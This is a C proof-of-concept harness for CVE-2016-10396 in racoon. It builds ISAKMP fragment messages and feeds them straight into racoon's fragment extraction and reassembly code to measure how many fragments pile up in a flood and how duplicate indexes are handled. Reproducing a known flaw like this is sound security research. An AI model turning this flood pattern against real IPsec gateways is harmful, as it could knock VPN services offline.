/*
 * racoon_frag_flood.c - CVE-2016-10396's fragment flood, delivered to racoon's
 * own IKE fragment code (isakmp_frag_extract / isakmp_frag_reassembly).
 *
 *     racoon_frag_flood flood COUNT   COUNT fragments with indexes 1..254 over
 *                                     and over (no last one), then the last
 *                                     fragment #255 and COUNT more; prints how
 *                                     many fragments racoon holds after each
 *                                     half and the time each took
 *     racoon_frag_flood message       fragments 3 (the last), 1, 1 again, 2 of
 *                                     one message: what isakmp_frag_extract()
 *                                     returns for each (1: complete) and the
 *                                     reassembled message
 *
 * Link it with racoon's objects, main.o replaced by a copy of main.c compiled
 * with -Dmain=racoon_main.  The fragments are whole ISAKMP messages (header
 * and fragment payload) as frag_handler() in isakmp.c passes them, for one
 * phase 1 handle, as an unauthenticated peer can send them after one first
 * phase 1 packet.
 */
#include "config.h"

#include <sys/types.h>
#include <sys/param.h>
#include <sys/socket.h>
#include <netinet/in.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "var.h"
#include "misc.h"
#include "vmbuf.h"
#include "plog.h"
#include "schedule.h"
#include "debug.h"
#include "isakmp_var.h"
#include "isakmp.h"
#include "handler.h"
#include "isakmp_frag.h"

static struct ph1handle ph1;

static vchar_t *
fragment(int index, int last, const char *data)
{
	size_t len = strlen(data);
	vchar_t *msg = vmalloc(sizeof(struct isakmp) + sizeof(struct isakmp_frag) + len);
	struct isakmp *isakmp = (struct isakmp *)msg->v;
	struct isakmp_frag *frag = (struct isakmp_frag *)(isakmp + 1);

	memset(msg->v, 0, msg->l);
	isakmp->np = ISAKMP_NPTYPE_FRAG;
	isakmp->len = htonl(msg->l);
	frag->len = htons(sizeof(*frag) + len);
	frag->index = index;
	frag->flags = last ? ISAKMP_FRAG_LAST : 0;
	memcpy(frag + 1, data, len);
	return msg;
}

static int
held(void)
{
	struct isakmp_frag_item *item;
	int n = 0;

	for (item = ph1.frag_chain; item != NULL; item = item->frag_next)
		n++;
	return n;
}

static int
send_one(int index, int last, const char *data)
{
	vchar_t *msg = fragment(index, last, data);
	int r = isakmp_frag_extract(&ph1, msg);

	vfree(msg);
	return r;
}

static double
since(struct timespec *t0)
{
	struct timespec t1;

	clock_gettime(CLOCK_MONOTONIC, &t1);
	return (t1.tv_sec - t0->tv_sec) + (t1.tv_nsec - t0->tv_nsec) / 1e9;
}

int
main(int argc, char **argv)
{
	struct timespec t0;
	vchar_t *out;
	int i, count;

	ploginit();
	memset(&ph1, 0, sizeof(ph1));
	if (argc == 3 && strcmp(argv[1], "flood") == 0) {
		count = atoi(argv[2]);
		clock_gettime(CLOCK_MONOTONIC, &t0);
		for (i = 0; i < count; i++)
			send_one(1 + i % 254, 0, "x");
		printf("before the last fragment: %d held after %d sent, %.3f s\n",
		    held(), count, since(&t0));
		clock_gettime(CLOCK_MONOTONIC, &t0);
		send_one(255, 1, "x");
		for (i = 0; i < count; i++)
			send_one(1 + i % 254, 0, "x");
		printf("after the last fragment: %d held after %d more sent, "
		    "%.3f s\n", held(), count, since(&t0));
		return 0;
	}
	if (argc == 2 && strcmp(argv[1], "message") == 0) {
		printf("3 (last): %d\n", send_one(3, 1, "message"));
		printf("1: %d\n", send_one(1, 0, "IKE "));
		printf("1 again: %d\n", send_one(1, 0, "XXX "));
		printf("2: %d\n", send_one(2, 0, "fragmented "));
		out = isakmp_frag_reassembly(&ph1);
		if (out == NULL) {
			printf("no message\n");
			return 1;
		}
		printf("reassembled: %.*s\n", (int)out->l, out->v);
		printf("held afterwards: %d\n", held());
		return 0;
	}
	fprintf(stderr, "usage: %s flood COUNT | message\n", argv[0]);
	return 2;
}
